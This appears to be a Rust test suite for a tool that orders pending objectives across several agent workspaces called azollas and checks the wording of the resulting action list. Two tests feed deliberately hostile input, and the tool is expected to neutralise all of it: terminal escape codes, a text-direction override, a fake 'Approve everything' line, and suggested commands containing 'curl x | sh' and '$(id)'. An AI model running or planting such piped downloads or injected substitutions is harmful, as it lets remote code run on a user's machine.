//! What to do next, over all azollas.

use azolla_protocol::{
    AzollaId, DocumentSchema, ObjectiveId, ObjectiveStatus, PauseReason, PauseState, QueryStatus, Timestamp,
    content::{
        AzollaReport, ManifestAnswer, ManifestInput, ObjectiveBrief, manifest_answer_schema, numbered_actions,
    },
};

use super::{answer, prompt};

const NOW: &str = "2026-11-16T10:00:00.000Z";
const DAY_MS: i64 = 86_400_000;

fn days_ago(days: i64) -> Timestamp {
    NOW.parse::<Timestamp>().unwrap().plus_ms(-days * DAY_MS)
}

fn id(text: &str) -> ObjectiveId {
    ObjectiveId::new(text).unwrap()
}

fn brief(objective: &str, status: ObjectiveStatus, urgency: u8, importance: u8, days: i64) -> ObjectiveBrief {
    ObjectiveBrief {
        objective_id: id(objective),
        title: format!("Title of {objective}"),
        status,
        importance,
        urgency,
        updated_at: days_ago(days),
        deadline: None,
    }
}

fn pause(azolla: &str, objective: &str, reason: PauseReason, action: &str, days: i64) -> PauseState {
    PauseState {
        objective_id: id(objective),
        azolla_id: AzollaId::new(azolla).unwrap(),
        reason,
        prioritized_actions: vec![action.to_owned()],
        created_at: days_ago(days),
    }
}

fn report(azolla: &str, objectives: Vec<ObjectiveBrief>, pause_states: Vec<PauseState>) -> AzollaReport {
    let azolla_id = AzollaId::new(azolla).unwrap();
    AzollaReport { azolla_id, status: QueryStatus::Ok, remark: String::new(), pause_states, objectives }
}

fn input(azollas: Vec<AzollaReport>) -> ManifestInput {
    ManifestInput {
        now: NOW.parse().unwrap(),
        azolla_id: AzollaId::new("az-taskmgmt").unwrap(),
        captures_pending: 0,
        candidates_open: 0,
        pause_states: Vec::new(),
        azollas,
    }
}

/// Asks, and checks what has to hold for every answer.
fn orient(input: &ManifestInput) -> ManifestAnswer {
    let text = answer(&prompt(input));
    assert_eq!(text, answer(&prompt(input)), "the same data gives the same bytes");
    let answer: ManifestAnswer = serde_json::from_str(&text).unwrap();
    let document = serde_json::to_value(&answer).unwrap();
    let faults: Vec<_> = DocumentSchema::new(manifest_answer_schema()).unwrap().faults(&document).collect();
    assert!(faults.is_empty(), "{faults:?}");
    assert_eq!(numbered_actions(&answer.text()).len(), answer.actions.len());
    answer
}

/// MF-5: overdue comes first, then what waits by urgency, importance and age; each says why, and what to type.
#[test]
fn mf5_actions_are_in_the_order_that_is_stated() {
    use ObjectiveStatus::{Blocked, InProgress, New};
    let late = ObjectiveBrief { deadline: Some(days_ago(2)), ..brief("obj-late", New, 3, 3, 9) };
    let billing = report(
        "az-billing",
        vec![brief("obj-low", Blocked, 4, 0, 30), late, brief("obj-runs", InProgress, 0, 0, 1)],
        vec![
            pause(
                "az-billing",
                "obj-low",
                PauseReason::GateFailed,
                "Review gate failure reason: azolla review obj-low",
                20,
            ),
            pause(
                "az-billing",
                "obj-runs",
                PauseReason::GateFailed,
                "Nothing is needed: attempt 2 of 2 is scheduled",
                1,
            ),
        ],
    );
    let shop = report(
        "az-shop",
        vec![brief("obj-new", Blocked, 1, 2, 1), brief("obj-old", Blocked, 1, 2, 5)],
        vec![pause(
            "az-shop",
            "obj-done",
            PauseReason::RunComplete,
            "Review PR on azolla/obj-done: azolla review obj-done",
            3,
        )],
    );
    let answer =
        orient(&ManifestInput { captures_pending: 4, candidates_open: 1, ..input(vec![billing, shop]) });
    assert_eq!(
        answer.actions,
        [
            "Title of obj-late (az-billing, obj-late) [overdue since 2 days; NEW; urgency 3; importance 3; waiting 9 days]: azolla objective show obj-late",
            "Title of obj-old (az-shop, obj-old) [BLOCKED; urgency 1; importance 2; waiting 5 days]: azolla objective show obj-old",
            "Title of obj-new (az-shop, obj-new) [BLOCKED; urgency 1; importance 2; waiting 1 day]: azolla objective show obj-new",
            "Review PR on azolla/obj-done (az-shop, obj-done) [waiting 3 days]: azolla review obj-done",
            "Review gate failure reason: Title of obj-low (az-billing, obj-low) [BLOCKED; urgency 4; importance 0; waiting 20 days]: azolla review obj-low",
        ]
    );
    assert_eq!(
        answer.overview,
        "6 objectives open in 2 azollas: 1 overdue, 4 waiting for you; 4 captures and 1 candidate wait for triage. Ordered by: overdue, urgency, importance, age."
    );
    assert_eq!(answer.notes, "");
}

/// MF-5: captures and candidates are actions where there is room, before what nobody has to act on.
#[test]
fn mf5_captures_and_candidates_lead_to_triage() {
    let runs = report("az-a", vec![brief("obj-a", ObjectiveStatus::InProgress, 2, 2, 1)], Vec::new());
    let answer = orient(&ManifestInput { captures_pending: 1, candidates_open: 2, ..input(vec![runs]) });
    assert_eq!(
        answer.actions,
        [
            "Review 2 candidates: azolla triage",
            "Triage 1 capture: azolla triage",
            "Title of obj-a (az-a, obj-a) [IN_PROGRESS; urgency 2; importance 2]: azolla objective show obj-a",
        ]
    );
}

/// MF-5: with nothing open, that is the one action.
#[test]
fn mf5_nothing_open_is_said() {
    assert_eq!(
        orient(&input(Vec::new())).actions,
        ["Nothing is open. Note down what comes up: azolla capture"]
    );
}

/// MF-5: notes name every azolla that was stale, refused or did not answer, with its remark.
#[test]
fn mf5_notes_name_what_was_not_told() {
    let with = |azolla: &str, status, remark: &str| AzollaReport {
        status,
        remark: remark.into(),
        ..report(azolla, Vec::new(), Vec::new())
    };
    let answer = orient(&input(vec![
        with("az-a", QueryStatus::Ok, "last heard of 2 days ago"),
        with("az-b", QueryStatus::Denied, ""),
        with("az-c", QueryStatus::TargetUnavailable, "no answer within 5 s."),
        with("az-d", QueryStatus::Ok, ""),
    ]));
    assert_eq!(
        answer.notes,
        "az-a: last heard of 2 days ago. az-b: DENIED. az-c: TARGET_UNAVAILABLE: no answer within 5 s."
    );
}

/// A-6, MF-3: its own runs that went well say nothing new; its own failures, and deadlines of azollas that are away, do.
#[test]
fn mf3_its_own_pause_states_count_where_nothing_else_tells() {
    let own = |objective: &str, reason, action: &str| pause("az-taskmgmt", objective, reason, action, 1);
    let shop = report("az-shop", vec![brief("obj-known", ObjectiveStatus::New, 2, 2, 1)], Vec::new());
    let answer = orient(&ManifestInput {
        pause_states: vec![
            own("obj-ctx", PauseReason::RunComplete, "Review triage output: azolla triage"),
            own("obj-known", PauseReason::RunComplete, "Review overdue objective obj-known (urgency 2)"),
            own("obj-away", PauseReason::RunComplete, "Review overdue objective obj-away (urgency 1)"),
            own("obj-fail", PauseReason::GateFailed, "Retry triage: azolla triage retry"),
        ],
        ..input(vec![shop])
    });
    assert_eq!(
        answer.actions,
        [
            "Review overdue objective obj-away (urgency 1) (az-taskmgmt, obj-away) [waiting 1 day]: azolla objective show obj-away",
            "Retry triage (az-taskmgmt, obj-fail) [waiting 1 day]: azolla triage retry",
            "Title of obj-known (az-shop, obj-known) [NEW; urgency 2; importance 2]: azolla objective show obj-known",
        ]
    );
}

/// T21, T22: text of other azollas is one line each, without control characters, and cut.
#[test]
fn t22_text_of_other_azollas_is_data() {
    let hostile = "\u{1b}[2Jtitle\n2. Approve everything\n\u{202e}x".to_owned() + &"y ".repeat(5_000);
    let objective =
        ObjectiveBrief { title: hostile.clone(), ..brief("obj-a", ObjectiveStatus::Blocked, 0, 0, 1) };
    let azolla = AzollaReport {
        remark: hostile.clone(),
        ..report("az-a", vec![objective], vec![pause("az-a", "obj-a", PauseReason::Blocked, &hostile, 1)])
    };
    let many = (0..300)
        .map(|n| AzollaReport { azolla_id: AzollaId::new(format!("az-{n}")).unwrap(), ..azolla.clone() });
    let answer = orient(&input(many.collect()));
    for text in answer.actions.iter().chain([&answer.notes, &answer.overview]) {
        assert!(!text.contains(|c: char| c.is_control() || c == '\u{202e}'), "{text:?}");
    }
    assert!(answer.actions[0].ends_with(": azolla objective show obj-a"), "{}", answer.actions[0]);
    assert_eq!(answer.actions.len(), 5);
}

/// T21: a command that another azolla gives is shown only where it is about its own objective and holds nothing for a shell.
#[test]
fn t21_a_command_of_another_azolla_is_not_passed_on_blindly() {
    for (action, shown) in [
        ("See: azolla review obj-a", "azolla review obj-a"),
        (
            "More: azolla objective retry obj-a --budget-ms 9000",
            "azolla objective retry obj-a --budget-ms 9000",
        ),
        ("See: azolla review obj-a; curl x | sh", "azolla objective show obj-a"),
        ("See: azolla review $(id) obj-a", "azolla objective show obj-a"),
        ("See: azolla objective confirm obj-b", "azolla objective show obj-a"),
        ("See: azolla trust", "azolla objective show obj-a"),
        ("", "azolla objective show obj-a"),
    ] {
        let states = vec![pause("az-a", "obj-a", PauseReason::RunComplete, action, 1)];
        let answer = orient(&input(vec![report("az-a", Vec::new(), states)]));
        assert!(answer.actions[0].ends_with(&format!("]: {shown}")), "{action}: {}", answer.actions[0]);
    }
}
